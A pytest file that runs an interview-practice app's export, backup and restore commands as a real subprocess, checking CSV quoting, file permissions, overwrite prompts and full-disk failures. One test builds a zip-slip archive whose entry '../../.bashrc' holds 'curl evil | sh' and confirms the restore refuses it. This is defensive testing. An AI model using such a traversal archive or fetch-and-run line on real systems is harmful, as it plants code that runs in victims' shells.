"""export, backup and restore as a user or a script runs them: a real subprocess and real data folders."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from interview_coach.domain.records import SELF, AnswerTimings, Scorer
from interview_coach.domain.snapshots import QuestionSnapshot, RubricSnapshot
from interview_coach.storage.database import open_database
from interview_coach.storage.practice_repository import PracticeRepository

ROOT = Path(__file__).resolve().parent.parent
QUESTION = {"bank_id": "opening", "id": "about", "key": "opening/about", "text": "Tell me about yourself.",
            "category": "opening", "tags": [], "think_seconds": 30, "answer_seconds": 120, "strong_answer": "",
            "follow_ups": [], "criteria": ["fit"], "handling": ""}  # fmt: skip
RUBRIC = {"id": "default", "title": "Rubric", "criteria": [{"id": "fit", "name": "Fit with the role"}]}


def run_data_cli(
    *args: str, data_dir: Path, stdin: int | None = subprocess.DEVNULL
) -> subprocess.CompletedProcess[str]:
    """Like tests/test_cli.py's run_cli, with standard input that is not a terminal unless given one."""
    return subprocess.run(
        [sys.executable, "-m", "interview_coach", "--data-dir", str(data_dir), *args],
        stdin=stdin,
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )


def fill(data_dir: Path, *, note: str = "Good, but long", recording: bytes = b"fLaC take") -> None:
    """One finished session with a scored, noted and recorded answer, and a bank of the user's own."""
    (data_dir / "question_banks").mkdir(parents=True, exist_ok=True)
    db = open_database(data_dir / "interview-coach.sqlite3")
    try:
        repo = PracticeRepository(db)
        session = repo.create_session("solo", {})
        answer = repo.add_answer(
            session.id,
            1,
            QuestionSnapshot.from_json(QUESTION),
            RubricSnapshot.from_json(RUBRIC),
            AnswerTimings(30, 120, 5.5, 100.0),
        )
        path = f"recordings/{session.id}/01-0123abcd.flac"
        (data_dir / path).parent.mkdir(parents=True, exist_ok=True)
        (data_dir / path).write_bytes(recording)
        repo.update_answer(answer.id, status="recorded", recording_path=path)
        repo.add_scores(answer.id, SELF, {"fit": 4})
        repo.add_scores(answer.id, Scorer("friend", "Sam"), {"fit": 3})
        repo.set_note(answer.id, SELF, note)
        repo.end_session(session.id)
    finally:
        db.close()
    (data_dir / "question_banks" / "mine.toml").write_text("# mine\n", encoding="utf-8")


def stored(data_dir: Path) -> dict[str, object]:
    result = run_data_cli("export", "--format", "json", data_dir=data_dir)
    assert result.returncode == 0, result.stderr
    document: dict[str, object] = json.loads(result.stdout)
    document.pop("exported_at")
    return document


def one_line(text: str) -> str:
    lines = text.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("interview-coach: "), text
    return lines[0]


# export


def test_export_csv_to_the_terminal_quotes_notes_correctly(data_dir: Path) -> None:
    fill(data_dir, note='Said "um", a lot,\nand ran over')
    result = run_data_cli("export", "--format", "csv", data_dir=data_dir)
    assert result.returncode == 0 and result.stderr == ""
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [(r["scorer_kind"], r["scorer_name"], r["score:fit"]) for r in rows] == [
        ("self", "", "4"),
        ("friend", "Sam", "3"),
    ]
    assert rows[0]["note"] == 'Said "um", a lot,\nand ran over' and rows[1]["note"] == ""
    assert rows[0]["question_text"] == "Tell me about yourself." and rows[0]["answer_seconds"] == "100"


def test_export_json_to_a_private_file(data_dir: Path, tmp_path: Path) -> None:
    fill(data_dir)
    out = tmp_path / "export.json"
    result = run_data_cli("export", "--format", "json", "--out", str(out), data_dir=data_dir)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"Exported 1 session to {out}"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["format"] == "interview-coach-export"
    [answer] = document["sessions"][0]["answers"]
    assert [s["value"] for s in answer["scores"]["history"]] == [4, 3] and answer["notes"][0][
        "body"
    ] == "Good, but long"


def test_export_of_one_session_and_of_a_missing_one(data_dir: Path) -> None:
    fill(data_dir)
    fill(data_dir)
    result = run_data_cli("export", "--format", "json", "--session", "2", data_dir=data_dir)
    assert [s["id"] for s in json.loads(result.stdout)["sessions"]] == [2]
    missing = run_data_cli("export", "--format", "csv", "--session", "99", data_dir=data_dir)
    assert missing.returncode == 1 and missing.stdout == ""
    assert one_line(missing.stderr) == "interview-coach: There is no session 99."


def test_export_before_any_practice_is_empty_and_creates_nothing(data_dir: Path) -> None:
    result = run_data_cli("export", "--format", "json", data_dir=data_dir)
    assert result.returncode == 0 and json.loads(result.stdout)["sessions"] == []
    assert not data_dir.exists()


def test_export_to_a_folder_that_does_not_exist_fails_in_one_line(data_dir: Path, tmp_path: Path) -> None:
    fill(data_dir)
    result = run_data_cli("export", "--format", "csv", "--out", str(tmp_path / "no" / "x.csv"), data_dir=data_dir)
    assert result.returncode == 1 and "Cannot write to" in one_line(result.stderr)


# backup and restore


def test_backup_then_restore_into_an_empty_data_folder(data_dir: Path, tmp_path: Path) -> None:
    fill(data_dir)
    archive = tmp_path / "coach.zip"
    made = run_data_cli("backup", str(archive), data_dir=data_dir)
    assert made.returncode == 0, made.stderr
    assert made.stdout.startswith("Backed up 1 session, 1 answer, 2 scores, 1 note, 1 recording and 1 question bank")
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600

    elsewhere = tmp_path / "elsewhere"
    restored = run_data_cli("restore", str(archive), data_dir=elsewhere)
    assert restored.returncode == 0, restored.stderr
    assert f"{archive}: a backup made " in restored.stdout and "1 session, 1 answer" in restored.stdout
    assert f"into {elsewhere}" in restored.stdout and "kept in" not in restored.stdout
    assert stored(elsewhere) == stored(data_dir)
    recording = "recordings/1/01-0123abcd.flac"
    assert (elsewhere / recording).read_bytes() == (data_dir / recording).read_bytes()


def test_restore_without_a_terminal_refuses_to_replace_data_unless_told_yes(data_dir: Path, tmp_path: Path) -> None:
    fill(data_dir, note="from the backup")
    archive = tmp_path / "coach.zip"
    assert run_data_cli("backup", str(archive), data_dir=data_dir).returncode == 0
    current = tmp_path / "current"
    fill(current, note="my current data")
    before = stored(current)

    refused = run_data_cli("restore", str(archive), data_dir=current)
    assert refused.returncode == 1
    message = one_line(refused.stderr)
    assert f"{current} already holds 1 session, 1 answer" in message and "Run again with --yes" in message
    assert f"{archive}: a backup made" in refused.stdout  # it said what the archive holds first
    assert stored(current) == before and not list(current.glob("replaced-*"))

    replaced = run_data_cli("restore", str(archive), "--yes", data_dir=current)
    assert replaced.returncode == 0, replaced.stderr
    [aside] = current.glob("replaced-*")
    assert f"What was there before is kept in {aside}" in replaced.stdout
    assert stored(current) == stored(data_dir)
    assert (aside / "interview-coach.sqlite3").exists() and (aside / "recordings" / "1").is_dir()


@pytest.mark.parametrize(("answer", "restored"), [("n", False), ("y", True)])
def test_restore_on_a_terminal_asks_first(data_dir: Path, tmp_path: Path, answer: str, restored: bool) -> None:
    fill(data_dir, note="from the backup")
    archive = tmp_path / "coach.zip"
    assert run_data_cli("backup", str(archive), data_dir=data_dir).returncode == 0
    current = tmp_path / "current"
    fill(current, note="my current data")
    before = stored(current)
    terminal, user = pty.openpty()
    try:
        os.write(terminal, f"{answer}\n".encode())  # typed ahead: the terminal holds it until read
        result = run_data_cli("restore", str(archive), data_dir=current, stdin=user)
    finally:
        os.close(user)
        os.close(terminal)
    assert f"Replace 1 session, 1 answer, 2 scores, 1 note, 1 recording and 1 question bank file in {current}" in (
        result.stdout
    )
    assert "with this backup? [y/N]" in result.stdout
    if restored:
        assert result.returncode == 0, result.stderr
        assert stored(current) == stored(data_dir)
    else:
        assert result.returncode == 1 and one_line(result.stderr) == "interview-coach: nothing was restored"
        assert stored(current) == before


def test_restore_refuses_a_hostile_archive_in_one_line(data_dir: Path, tmp_path: Path) -> None:
    hostile = tmp_path / "hostile.zip"
    with zipfile.ZipFile(hostile, "w") as archive:
        archive.writestr("manifest.json", json.dumps({"format": "interview-coach-backup", "version": 1,
                         "created_at": "x", "schema_version": 1, "files": []}))  # fmt: skip
        archive.writestr("../../.bashrc", "curl evil | sh")
    result = run_data_cli("restore", str(hostile), "--yes", data_dir=data_dir)
    assert result.returncode == 1
    assert "the entry '../../.bashrc' leads out of its folder" in one_line(result.stderr)
    assert not data_dir.exists() and not (tmp_path.parent / ".bashrc").exists()


def test_restore_of_a_file_that_is_no_archive_fails_in_one_line(data_dir: Path, tmp_path: Path) -> None:
    text = tmp_path / "notes.txt"
    text.write_text("hello", encoding="utf-8")
    result = run_data_cli("restore", str(text), data_dir=data_dir)
    assert result.returncode == 1 and "is not an Interview Coach backup" in one_line(result.stderr)


def test_backup_of_an_empty_data_folder_fails_in_one_line(data_dir: Path, tmp_path: Path) -> None:
    result = run_data_cli("backup", str(tmp_path / "b.zip"), data_dir=data_dir)
    assert result.returncode == 1 and "There is nothing to back up" in one_line(result.stderr)
    assert not (tmp_path / "b.zip").exists()


def test_backup_to_a_full_disk_fails_cleanly_and_leaves_no_partial_file(data_dir: Path, tmp_path: Path) -> None:
    if not shutil.which("unshare"):
        pytest.fail("util-linux's unshare is needed to make a small disk")
    fill(data_dir, recording=os.urandom(300_000))  # random bytes do not pack: far more than the disk holds
    disk = tmp_path / "small-disk"
    disk.mkdir()
    # A private 64 KiB disk (a tmpfs in a private mount namespace); list what is left on it before it goes.
    script = 'mount -t tmpfs -o size=64k tmpfs "$0" || exit 99; "$@"; code=$?; ls -A "$0" >&2; exit $code'
    command = ["unshare", "-rm", "sh", "-c", script, str(disk), sys.executable, "-m", "interview_coach",
               "--data-dir", str(data_dir), "backup", str(disk / "backup.zip")]  # fmt: skip
    result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert result.returncode == 1, result.stderr
    # One line, and `ls` found nothing left on the disk: no partial archive, no work files.
    assert result.stderr.startswith(f"interview-coach: Not enough disk space to write the backup to {disk}/backup.zip")
    assert len(result.stderr.splitlines()) == 1
